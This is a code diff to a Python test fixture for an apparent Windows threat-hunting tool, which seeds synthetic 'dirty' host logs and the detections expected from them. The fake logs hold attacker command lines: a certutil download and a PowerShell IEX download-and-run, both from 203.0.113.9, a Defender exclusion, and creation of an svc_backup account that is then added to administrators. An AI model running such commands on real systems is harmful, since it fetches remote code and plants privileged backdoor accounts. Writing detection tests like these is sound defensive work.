@@ -122,6 +122,8 @@ def typed_rows(host: str, dirty: bool) -> dict[str, list[dict]]:
          "TargetUserName": "alice", "IpAddress": "-"},
         {"TimeGenerated": t(3), "EventID": 4688, "NewProcessName": "C:\\Windows\\System32\\svchost.exe",
          "CommandLine": "svchost.exe -k netsvcs", "Account": "NT AUTHORITY\\SYSTEM"},
+        {"TimeGenerated": t(3), "EventID": 4688, "NewProcessName": "C:\\Windows\\System32\\net.exe",
+         "CommandLine": "net.exe use Z: \\\\fs01\\users /persistent:yes", "SubjectAccount": f"{host}\\alice"},
         {"TimeGenerated": t(4), "EventID": 4732, "TargetUserName": "Event Log Readers", "TargetSid": "S-1-5-32-573",
          "MemberName": "-", "MemberSid": "S-1-5-21-1-2-3-1001", "Account": f"{host}\\admin"},
         {"TimeGenerated": t(5), "EventID": 4697, "ServiceName": "edgeupdate",
@@ -152,7 +154,8 @@ def typed_rows(host: str, dirty: bool) -> dict[str, list[dict]]:
                 {"Name": "Dnscache", "Source": "Registry", "ImagePath": "C:\\Windows\\system32\\svchost.exe -k NetworkService",
                  "ServiceDll": "%SystemRoot%\\System32\\dnsrslvr.dll"}]
     history = [{"UserName": "alice", "LineNumber": 1, "Command": "Get-Process | Sort-Object CPU"},
-               {"UserName": "alice", "LineNumber": 2, "Command": "Get-ChildItem C:\\Users\\alice\\Documents"}]
+               {"UserName": "alice", "LineNumber": 2, "Command": "Get-ChildItem C:\\Users\\alice\\Documents"},
+               {"UserName": "alice", "LineNumber": 3, "Command": "net user alice /domain"}]
     exclusions = [{"ExclusionType": "Path", "Value": "C:\\Program Files\\Contoso\\Agent\\", "TypeEvidence": "file name"}]
     mplog = [{"TimeGenerated": t(0), "LogType": "MPLog", "EntryType": "ServiceState", "Message": "Service started"}]
     downloads = [{"StartTime": t(-60), "Browser": "Chrome", "UserName": "alice", "Url": "https://contoso.com/q3.pdf",
@@ -184,6 +187,10 @@ def typed_rows(host: str, dirty: bool) -> dict[str, list[dict]]:
             {"TimeGenerated": t(16), "EventID": 4688, "NewProcessName": "C:\\Windows\\System32\\certutil.exe",
              "CommandLine": "certutil.exe -urlcache -split -f http://203.0.113.9/p.exe C:\\Users\\Public\\p.exe",
              "Account": f"{host}\\administrator"},
+            {"TimeGenerated": t(13), "EventID": 4688, "NewProcessName": "C:\\Windows\\System32\\net.exe",
+             "CommandLine": "net.exe user svc_backup Winter2025!x /add", "SubjectAccount": f"{host}\\administrator"},
+            {"TimeGenerated": t(14), "EventID": 4688, "NewProcessName": "C:\\Users\\Public\\Libraries\\rb.exe",
+             "CommandLine": "\"C:\\Users\\Public\\Libraries\\rb.exe\"", "SubjectAccount": f"{host}\\administrator"},
             {"TimeGenerated": t(30), "EventID": 1102, "SubjectAccount": f"{host}\\administrator"},
         ]
         win += [
@@ -230,6 +237,7 @@ def typed_rows(host: str, dirty: bool) -> dict[str, list[dict]]:
             {"UserName": "alice", "LineNumber": 3,
              "Command": "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"},
             {"UserName": "alice", "LineNumber": 4, "Command": "Add-MpPreference -ExclusionPath C:\\Users\\Public"},
+            {"UserName": "alice", "LineNumber": 5, "Command": "net localgroup administrators svc_backup /add"},
         ]
     return {"SecurityEvent": sec, "WindowsEvent": win, "ScheduledTask": tasks, "Service": services,
             "PowerShellHistory": history, "DefenderExclusion": exclusions, "DefenderLogEntry": mplog,
@@ -322,6 +330,9 @@ MUST_FIND = {
     "dns_rare_domains": "example.net",
     "tcp_public_unusual_process": "updater.exe",
     "local_user_recent": "svc_backup",
+    "account_commands": "net.exe user svc_backup Winter2025!x /add",
+    "process_creation_user_writable_path": "C:\\Users\\Public\\Libraries\\rb.exe",
+    "pshistory_account_commands": "net localgroup administrators svc_backup /add",
     "defender_exclusions": "user-writable path",
     "defender_mplog_detections": "CobaltStrike",
     "browser_executable_download": "Invoice_2025-10-01.pdf.exe",
